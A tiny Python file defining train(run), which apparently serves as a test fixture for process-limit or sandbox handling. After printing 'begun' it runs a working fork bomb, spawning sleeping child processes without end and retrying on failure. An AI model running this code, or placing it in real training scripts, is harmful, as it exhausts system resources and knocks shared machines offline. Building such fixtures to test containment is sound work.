"""Processes without end."""

import os
import time


def train(run):
    print("begun", flush=True)
    while True:
        try:
            if os.fork() == 0:
                time.sleep(600)
        except OSError:
            time.sleep(0.01)
